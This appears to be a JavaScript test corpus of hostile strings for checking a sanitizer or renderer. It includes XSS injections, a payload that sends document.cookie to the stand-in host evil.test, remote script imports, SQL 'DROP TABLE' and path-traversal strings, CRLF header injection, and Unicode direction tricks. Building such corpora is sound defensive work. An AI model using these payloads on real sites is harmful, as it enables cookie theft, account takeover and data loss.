// A hundred hostile texts: injections into HTML, attributes, URLs, scripts, styles and templates;
// texts that reverse, hide, or burst a line.

const SCRIPTS = ["alert(1)", "confirm`1`", "import('https://evil.test/x.js')", "fetch('https://evil.test/?'+document.cookie)"];
const FRAMES = [
  (code) => `<script>${code}</script>`,
  (code) => `<img src=x onerror="${code}">`,
  (code) => `<svg onload="${code}"></svg>`,
  (code) => `"><script>${code}</script>`,
  (code) => `' onmouseover='${code}' x='`,
  (code) => `javascript:${code}`,
  (code) => `<iframe srcdoc="<script>${code}</script>"></iframe>`,
  (code) => `\${${code}}`,
  (code) => `{{${code}}}`,
  (code) => `</textarea><script>${code}</script>`,
  (code) => `</title><script>${code}</script>`,
  (code) => `<a href="javascript:${code}">press me</a>`,
  (code) => `<details open ontoggle="${code}">`,
  (code) => `<math><mtext><style><img src=x onerror="${code}">`,
  (code) => `data:text/html,<script>${code}</script>`,
  (code) => `<object data="data:text/html,<script>${code}</script>">`,
  (code) => `--></style></script><script>${code}</script>`,
];
const FETCHES = [
  '<img src="https://evil.test/pixel.png">',
  '<link rel=stylesheet href="https://evil.test/x.css">',
  "<style>@import 'https://evil.test/x.css';</style>",
  "<base href='https://evil.test/'>",
  '<form action="https://evil.test/"><input name=q></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
  "<style>*{display:none}</style>",
  '<div style="position:fixed;inset:0;background:red">',
  "https://evil.test/",
  "//evil.test/",
];
const SHAPES = [
  "\u202Egnp.exe\u202C",
  "\u2067right to left\u2069 and back",
  "\u05E9\u05DC\u05D5\u05DD \u0645\u0631\u062D\u0628\u0627",
  "zero\u200Bwidth\u200D\uFEFFjoiners",
  "Z\u0335\u0321\u031B\u0347a\u0336\u0322\u0328l\u0337\u0327\u031Cg\u0336\u0321\u0349o\u0335\u031B\u0323".repeat(3),
  "\u{1F469}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466}".repeat(8),
  "a".repeat(120),
  "no-space-".repeat(20),
  "line\nline\r\nline\ttab",
  "\u0007\u001B[31mterminal\u001B[0m",
  "%00%0d%0aSet-Cookie:%20x=y",
  "../../../../etc/passwd",
  "constructor",
  "__proto__",
  "null",
  "undefined",
  "[object Object]",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "\uFFFD\uFFFE\u{10FFFD}",
  "{\"a\":1}",
  "'; DROP TABLE message; --",
  "1e309",
];

export const CORPUS = [...FRAMES.flatMap((frame) => SCRIPTS.map(frame)), ...FETCHES, ...SHAPES];
export const LONG = "\u4E2D<b>".repeat(8192).slice(0, 16_000);
